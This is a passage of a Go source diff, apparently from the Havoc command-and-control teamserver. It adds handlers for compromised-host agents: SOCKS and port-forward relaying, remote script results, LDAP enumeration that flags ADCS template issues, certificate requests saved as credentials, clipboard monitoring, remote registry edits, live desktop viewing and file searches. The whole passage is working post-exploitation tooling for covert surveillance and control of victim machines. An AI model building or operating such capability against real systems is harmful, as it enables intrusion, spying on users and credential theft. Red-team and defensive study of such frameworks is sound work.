 							a.Console(teamserver.AgentConsole, "Erro", fmt.Sprintf("Failed to write to socks target %v: %v", Id, ErrorCode), "")
 						} else {
 							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_WRITE, Invalid packet", AgentID))
@@ -6028,18 +6547,35 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						if Success == win32.TRUE {
 							// succeeded
 
+							/* what the agent agreed on. older agents don't send it */
+							if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+								var Flags = Parser.ParseInt32()
+
+								Client.Acknowledged = Flags&SOCKET_FLAG_WINDOW != 0
+								Client.Compress = Flags&SOCKET_FLAG_COMPRESS != 0
+							}
+
 							// avoid too much spam
 							//logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_CONNECT, Id: %08x, Type: %d, Success: %d", AgentID, SocketId, SOCKET_TYPE_REVERSE_PROXY, Success))
 
-							err := socks.SendConnectSuccess(Client.Conn, Client.ATYP, Client.IpDomain, Client.Port)
-							if err == nil {
+							/* port forwards relay the connection as is */
+							if Client.Raw {
+								Client.Connected = true
+							} else if err := socks.SendConnectSuccess(Client.Conn, Client.ATYP, Client.IpDomain, Client.Port); err == nil {
 								Client.Connected = true
 							}
 
+							/* the round trip of the connect is the first sample of the stream */
+							a.StreamReceived(&Client.Stats, 0)
+
 						} else {
 							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_CONNECT, Id: %08x, Type: %d, Success: %d, ErrorCode: %d", AgentID, SocketId, SOCKET_TYPE_REVERSE_PROXY, Success, ErrorCode))
 
-							socks.SendConnectFailure(Client.Conn, uint32(ErrorCode), Client.ATYP, Client.IpDomain, Client.Port)
+							if !Client.Raw {
+								socks.SendConnectFailure(Client.Conn, uint32(ErrorCode), Client.ATYP, Client.IpDomain, Client.Port)
+							}
+
+							a.StreamFailed(&Client.Stats)
 
 							a.SocksClientClose(int32(SocketId))
 						}
@@ -6054,6 +6590,22 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 				break
 
+			case SOCKET_COMMAND_WINDOW:
+
+				if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32}) {
+					var (
+						SocketId = Parser.ParseInt32()
+						Written  = Parser.ParseInt32()
+					)
+
+					/* the agent wrote that much to the target, the client can send more */
+					a.SocksClientAcknowledged(SocketId, Written)
+				} else {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_WINDOW, Invalid packet", AgentID))
+				}
+
+				break
+
 			default:
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - UNKNOWN (%d)", AgentID, SubCommand))
 			}
@@ -6061,8 +6613,9 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 		} else {
 			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET, Invalid packet", AgentID))
 			Message = map[string]string{
-				"Type":    "Error",
-				"Message": fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_SOCKET expected at least 4 bytes but received %v bytes", Parser.Length()),
+				"Type":      "Error",
+				"Message":   fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_SOCKET expected at least 4 bytes but received %v bytes", Parser.Length()),
+				"ErrorCode": ERROR_CODE_MALFORMED,
 			}
 		}
 
@@ -6411,6 +6964,565 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 		break
 
+	case COMMAND_SCRIPT:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadBytes, parser.ReadBytes, parser.ReadInt32}) {
+			var (
+				Result = ScriptResult{
+					ExitCode:  Parser.ParseInt32(),
+					Line:      Parser.ParseInt32(),
+					Error:     Parser.ParseString(),
+					Output:    string(Parser.ParseBytes()),
+					Variables: make(map[string]string),
+				}
+				Count   = Parser.ParseInt32()
+				Names   []string
+				Message = make(map[string]string)
+			)
+
+			for i := 0; i < Count && Parser.CanIRead([]parser.ReadType{parser.ReadBytes, parser.ReadBytes}); i++ {
+				var Name = Parser.ParseString()
+
+				Result.Variables[Name] = Parser.ParseString()
+				Names = append(Names, Name)
+			}
+
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SCRIPT, ExitCode: %d, Line: %d, Error: %v", AgentID, Result.ExitCode, Result.Line, Result.Error))
+
+			if len(Result.Error) > 0 {
+				TaskError(Message, ERROR_CODE_FAILED, fmt.Sprintf("Script failed at line %v: %v", Result.Line, Result.Error))
+			} else if Result.ExitCode != 0 {
+				TaskError(Message, ERROR_CODE_FAILED, fmt.Sprintf("Script exited with code %v", Result.ExitCode))
+			} else {
+				Message["Type"] = "Good"
+				Message["Message"] = "Script finished"
+			}
+
+			Message["Output"] = Result.Output
+
+			if len(Names) > 0 {
+				Message["Output"] += "\nVariables:\n"
+				for _, Name := range Names {
+					Message["Output"] += fmt.Sprintf(" - %-16v: %v\n", Name, Result.Variables[Name])
+				}
+			}
+
+			if Data, err := json.Marshal(Result); err == nil {
+				Message["ScriptResult"] = string(Data)
+			}
+
+			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+			a.RequestCompleted(RequestID)
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SCRIPT, Invalid packet", AgentID))
+		}
+
+		break
+
+	case COMMAND_LDAP:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadBytes, parser.ReadInt32}) {
+			var (
+				Status  = Parser.ParseInt32()
+				Done    = Parser.ParseInt32() != 0
+				BaseDN  = Parser.ParseString()
+				Count   = Parser.ParseInt32()
+				Entries []LdapEntry
+				Message = make(map[string]string)
+			)
+
+			for i := 0; i < Count && Parser.CanIRead([]parser.ReadType{parser.ReadBytes}); i++ {
+				var Entry = LdapEntry{
+					DN:         Parser.ParseString(),
+					Attributes: make(map[string][]string),
+				}
+
+				for Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
+					var Name = Parser.ParseString()
+
+					/* end of the attributes of the entry */
+					if len(Name) == 0 || !Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+						break
+					}
+
+					var Values = Parser.ParseInt32()
+
+					for v := 0; v < Values && Parser.CanIRead([]parser.ReadType{parser.ReadBytes}); v++ {
+						Entry.Attributes[Name] = append(Entry.Attributes[Name], ldapValue(Name, Parser.ParseBytes()))
+					}
+				}
+
+				Entries = append(Entries, Entry)
+			}
+
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_LDAP, Status: %x, Done: %v, Entries: %d", AgentID, Status, Done, len(Entries)))
+
+			if Done {
+				if Status != 0 {
+					TaskError(Message, ErrorLdap(Status), "LDAP search failed: "+LdapError(Status))
+				} else {
+					Message["Type"] = "Good"
+					Message["Message"] = "LDAP search of " + BaseDN + " finished"
+				}
+
+				a.RequestCompleted(RequestID)
+			} else {
+				var (
+					Stored = teamserver.DirectoryAdd(a, Entries)
+					Output strings.Builder
+				)
+
+				Message["Type"] = "Info"
+				Message["Message"] = fmt.Sprintf("Received %v entries of %v (%v directory objects updated):", len(Entries), BaseDN, Stored)
+
+				for _, Entry := range Entries {
+					var Type = LdapType(Entry)
+
+					Output.WriteString(fmt.Sprintf(" %-9v %v", Type, Entry.DN))
+
+					if Type == "template" {
+						if Issues := AdcsTemplateIssues(Entry); len(Issues) > 0 {
+							Output.WriteString(" [" + strings.Join(Issues, ", ") + "]")
+						}
+					}
+
+					Output.WriteString("\n")
+				}
+
+				Message["Output"] = "\n" + Output.String()
+
+				if Data, err := json.Marshal(Entries); err == nil {
+					Message["LdapEntries"] = string(Data)
+				}
+			}
+
+			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_LDAP, Invalid packet", AgentID))
+		}
+
+		break
+
+	case COMMAND_ADCS:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadBytes, parser.ReadBytes}) {
+			var (
+				SubCommand  = Parser.ParseInt32()
+				Status      = Parser.ParseInt32()
+				Disposition = Parser.ParseInt32()
+				CaRequestID = Parser.ParseInt32()
+				Reason      = strings.TrimSpace(common.DecodeUTF16(Parser.ParseBytes()))
+				Certificate = common.DecodeUTF16(Parser.ParseBytes())
+				Message     = make(map[string]string)
+			)
+
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_ADCS, SubCommand: %x, Status: %x, Disposition: %v", AgentID, SubCommand, Status, Disposition))
+
+			if SubCommand != ADCS_COMMAND_REQUEST {
+				break
+			}
+
+			if Disposition == ADCS_DISP_ISSUED && len(Certificate) > 0 {
+				if CredentialID, err := teamserver.AdcsIssued(a, RequestID, CaRequestID, Certificate); err != nil {
+					TaskError(Message, ERROR_CODE_FAILED, "Failed to store the issued certificate: "+err.Error())
+				} else {
+					Message["Type"] = "Good"
+					Message["Message"] = fmt.Sprintf("Certificate %v issued and saved as credential %v", CaRequestID, CredentialID)
+				}
+			} else {
+				teamserver.AdcsIssued(a, RequestID, CaRequestID, "")
+
+				TaskError(Message, ErrorAdcs(Disposition), fmt.Sprintf("Certificate request %v %v", CaRequestID, AdcsDisposition(Disposition)))
+
+				if Status != 0 {
+					Message["Message"] += ": " + AdcsError(Status)
+				}
+
+				if len(Reason) > 0 {
+					Message["Output"] = Reason
+				}
+			}
+
+			a.RequestCompleted(RequestID)
+
+			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_ADCS, Invalid packet", AgentID))
+		}
+
+		break
+
+	case COMMAND_CLIPBOARD:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+			var (
+				SubCommand = Parser.ParseInt32()
+				Message    = make(map[string]string)
+			)
+
+			switch SubCommand {
+
+			case CLIPBOARD_COMMAND_GET, CLIPBOARD_COMMAND_CHANGED:
+				if !Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadBytes}) {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CLIPBOARD, Invalid packet", AgentID))
+					break
+				}
+
+				var (
+					Sequence = Parser.ParseInt32()
+					Text     = common.StripNull(common.DecodeUTF16(Parser.ParseBytes()))
+				)
+
+				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CLIPBOARD, SubCommand: %x, Sequence: %v, Length: %v", AgentID, SubCommand, Sequence, len(Text)))
+
+				if SubCommand == CLIPBOARD_COMMAND_GET {
+					a.RequestCompleted(RequestID)
+				}
+
+				if len(Text) == 0 {
+					/* the monitor doesn't report images, files or a cleared clipboard */
+					if SubCommand == CLIPBOARD_COMMAND_GET {
+						Message["Type"] = "Info"
+						Message["Message"] = "Clipboard holds no text"
+						teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+					}
+
+					break
+				}
+
+				ClipboardID, Known, err := teamserver.ClipboardAdd(a, Text)
+				if err != nil {
+					TaskError(Message, ERROR_CODE_FAILED, "Failed to save the clipboard: "+err.Error())
+				} else if SubCommand == CLIPBOARD_COMMAND_GET {
+					Message["Type"] = "Good"
+					Message["Message"] = fmt.Sprintf("Clipboard (%v characters, history entry %v):", len([]rune(Text)), ClipboardID)
+					Message["Output"] = Text
+				} else if Known {
+					/* copied again, only counted in the history */
+					break
+				} else {
+					Message["Type"] = "Info"
+					Message["Message"] = fmt.Sprintf("Clipboard changed (%v characters), saved as history entry %v", len([]rune(Text)), ClipboardID)
+				}
+
+				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+
+			case CLIPBOARD_COMMAND_START, CLIPBOARD_COMMAND_STOP:
+				if !Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32}) {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CLIPBOARD, Invalid packet", AgentID))
+					break
+				}
+
+				var (
+					Monitor  = Parser.ParseInt32() != 0
+					Previous = uint32(Parser.ParseInt32())
+				)
+
+				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CLIPBOARD, SubCommand: %x, Monitor: %v, Previous: %x", AgentID, SubCommand, Monitor, Previous))
+
+				/* the request of the replaced or stopped monitor gets no more answers */
+				if Previous != 0 {
+					a.RequestCompleted(Previous)
+				}
+
+				if SubCommand == CLIPBOARD_COMMAND_START {
+					/* kept until the monitor stops, the changes answer it */
+					Message["Type"] = "Good"
+					Message["Message"] = "Clipboard monitor started"
+				} else {
+					a.RequestCompleted(RequestID)
+
+					if Previous != 0 {
+						Message["Type"] = "Good"
+						Message["Message"] = "Clipboard monitor stopped"
+					} else {
+						Message["Type"] = "Info"
+						Message["Message"] = "Clipboard monitor wasn't running"
+					}
+				}
+
+				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+
+			}
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CLIPBOARD, Invalid packet", AgentID))
+		}
+
+		break
+
+	case COMMAND_REGISTRY:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadBytes, parser.ReadBytes}) {
+			var (
+				SubCommand = Parser.ParseInt32()
+				Key        RegistryKey
+				Status     = -1
+				Message    = make(map[string]string)
+			)
+
+			Key.Hive = RegistryHive(Parser.ParseInt32())
+			Key.Path = Parser.ParseUTF16String()
+			Key.Name = Parser.ParseUTF16String()
+
+		Items:
+			for Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+				switch Parser.ParseInt32() {
+
+				case REGISTRY_ITEM_END:
+					if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+						Status = Parser.ParseInt32()
+					}
+					break Items
+
+				case REGISTRY_ITEM_SUBKEY:
+					if !Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
+						break Items
+					}
+
+					Key.Subkeys = append(Key.Subkeys, Parser.ParseUTF16String())
+
+				case REGISTRY_ITEM_VALUE:
+					if !Parser.CanIRead([]parser.ReadType{parser.ReadBytes, parser.ReadInt32, parser.ReadBytes}) {
+						break Items
+					}
+
+					var (
+						Name = Parser.ParseUTF16String()
+						Type = Parser.ParseInt32()
+						Data = Parser.ParseBytes()
+					)
+
+					Key.Values = append(Key.Values, RegistryValue{Name: Name, Type: RegistryType(Type), Data: registryFormat(Type, Data)})
+
+				default:
+					break Items
+				}
+			}
+
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_REGISTRY, SubCommand: %x, Status: %v, Subkeys: %v, Values: %v", AgentID, SubCommand, Status, len(Key.Subkeys), len(Key.Values)))
+
+			a.RequestCompleted(RequestID)
+
+			var (
+				Root  = Key.Hive
+				Value = Key.Name
+			)
+
+			if len(Key.Path) > 0 {
+				Root += "\\" + Key.Path
+			}
+
+			if len(Value) == 0 {
+				Value = "(Default)"
+			}
+
+			if Status != 0 {
+				TaskErrorWin32(Message, Status, fmt.Sprintf("Registry task on %v failed: %v", Root, RegistryError(Status)))
+			} else {
+				switch SubCommand {
+
+				case REGISTRY_COMMAND_QUERY:
+					Message["Type"] = "Good"
+					Message["Message"] = "Registry value of " + Root + ":"
+					Message["Output"] = "\n" + registryOutput(Key)
+
+				case REGISTRY_COMMAND_ENUM:
+					Message["Type"] = "Good"
+					Message["Message"] = fmt.Sprintf("Registry key %v has %v values and %v subkeys:", Root, len(Key.Values), len(Key.Subkeys))
+					Message["Output"] = "\n" + registryOutput(Key)
+
+				case REGISTRY_COMMAND_SET, REGISTRY_COMMAND_DELETE:
+					var Operation = "Set"
+
+					if SubCommand == REGISTRY_COMMAND_DELETE {
+						Operation = "Deleted"
+					}
+
+					Message["Type"] = "Good"
+					Message["Message"] = fmt.Sprintf("%v value %v of %v", Operation, Value, Root)
+
+					if len(Key.Values) > 0 {
+						Message["Message"] += fmt.Sprintf(" (was %v %v)", Key.Values[0].Type, Key.Values[0].Data)
+					} else {
+						Message["Message"] += " (new value)"
+					}
+
+				}
+			}
+
+			if err := teamserver.RegistryResult(a, RequestID, SubCommand, Status, Key); err != nil {
+				Message["Message"] += " [failed to save: " + err.Error() + "]"
+			}
+
+			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_REGISTRY, Invalid packet", AgentID))
+		}
+
+		break
+
+	case COMMAND_DESKTOP:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+			var (
+				SubCommand = Parser.ParseInt32()
+				Message    = make(map[string]string)
+			)
+
+			switch SubCommand {
+
+			case DESKTOP_COMMAND_FRAME:
+				if !Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32}) {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_DESKTOP, Invalid packet", AgentID))
+					break
+				}
+
+				var Frame = DesktopFrame{
+					Frame:   Parser.ParseInt32(),
+					Width:   Parser.ParseInt32(),
+					Height:  Parser.ParseInt32(),
+					Changed: Parser.ParseInt32(),
+				}
+
+				for Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadBytes}) {
+					Frame.Tiles = append(Frame.Tiles, DesktopTile{
+						X:      Parser.ParseInt32(),
+						Y:      Parser.ParseInt32(),
+						Width:  Parser.ParseInt32(),
+						Height: Parser.ParseInt32(),
+						Pixels: Parser.ParseBytes(),
+					})
+				}
+
+				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_DESKTOP, Frame: %v, Size: %vx%v, Tiles: %v/%v", AgentID, Frame.Frame, Frame.Width, Frame.Height, len(Frame.Tiles), Frame.Changed))
+
+				/* frames go to the viewers, not to the console */
+				if err := teamserver.DesktopFrame(a, RequestID, Frame); err != nil {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_DESKTOP, Invalid frame: %v", AgentID, err))
+				}
+
+			case DESKTOP_COMMAND_START, DESKTOP_COMMAND_STOP:
+				if !Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32}) {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_DESKTOP, Invalid packet", AgentID))
+					break
+				}
+
+				var (
+					Running  = Parser.ParseInt32() != 0
+					Previous = uint32(Parser.ParseInt32())
+				)
+
+				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_DESKTOP, SubCommand: %x, Running: %v, Previous: %x", AgentID, SubCommand, Running, Previous))
+
+				/* the request of the replaced or stopped view gets no more frames */
+				if Previous != 0 {
+					a.RequestCompleted(Previous)
+					teamserver.DesktopStopped(a, Previous)
+				}
+
+				if SubCommand == DESKTOP_COMMAND_START {
+					/* kept until the view stops, the frames answer it */
+					Message["Type"] = "Good"
+					Message["Message"] = "Desktop view started"
+				} else {
+					a.RequestCompleted(RequestID)
+
+					if Previous != 0 {
+						Message["Type"] = "Good"
+						Message["Message"] = "Desktop view stopped"
+					} else {
+						Message["Type"] = "Info"
+						Message["Message"] = "Desktop view wasn't running"
+					}
+				}
+
+				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+
+			}
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_DESKTOP, Invalid packet", AgentID))
+		}
+
+		break
+
+	case COMMAND_FILESEARCH:
+		if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
+			var (
+				Root    = Parser.ParseUTF16String()
+				Matches []FileMatch
+				Message = make(map[string]string)
+				Done    = false
+				Status  int
+				Dirs    int
+				Total   int
+				Denied  int
+			)
+
+		Results:
+			for Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+				switch Parser.ParseInt32() {
+
+				case FILESEARCH_ITEM_END:
+					if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32}) {
+						Status = Parser.ParseInt32()
+						Dirs = Parser.ParseInt32()
+						Total = Parser.ParseInt32()
+						Denied = Parser.ParseInt32()
+						Done = true
+					}
+					break Results
+
+				case FILESEARCH_ITEM_MATCH:
+					if !Parser.CanIRead([]parser.ReadType{parser.ReadBytes, parser.ReadInt64, parser.ReadInt64, parser.ReadInt32, parser.ReadInt64}) {
+						break Results
+					}
+
+					Matches = append(Matches, FileMatch{
+						Path:       Parser.ParseUTF16String(),
+						Size:       Parser.ParseInt64(),
+						Modified:   FileTime(Parser.ParseInt64()),
+						Attributes: Parser.ParseInt32(),
+						Offset:     Parser.ParseInt64(),
+					})
+
+				default:
+					break Results
+				}
+			}
+
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FILESEARCH, Root: %v, Matches: %v, Done: %v", AgentID, Root, len(Matches), Done))
+
+			/* every batch gets indexed as it arrives */
+			if err := teamserver.FileSearchIndex(a, RequestID, Matches, Done); err != nil {
+				logger.Error(fmt.Sprintf("Failed to index the file search of %v: %v", a.NameID, err))
+			}
+
+			if len(Matches) > 0 {
+				Message["Type"] = "Good"
+				Message["Message"] = fmt.Sprintf("Found %v files in %v:", len(Matches), Root)
+				Message["Output"] = "\n" + fileSearchOutput(Matches)
+
+				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+			}
+
+			if Done {
+				a.RequestCompleted(RequestID)
+
+				Message = make(map[string]string)
+
+				if Status != 0 {
+					TaskErrorWin32(Message, Status, fmt.Sprintf("File search of %v failed [%v]", Root, Status))
+				} else {
+					Message["Type"] = "Info"
+					Message["Message"] = fmt.Sprintf("File search of %v finished: %v matches in %v directories", Root, Total, Dirs)
+
+					if Denied > 0 {
+						Message["Message"] += fmt.Sprintf(" (%v not readable)", Denied)
+					}
+				}
+
+				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
+			}
+		} else {
+			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FILESEARCH, Invalid packet", AgentID))
+		}
+
+		break
+
 	case COMMAND_PACKAGE_DROPPED:
 		var (
 			Message map[string]string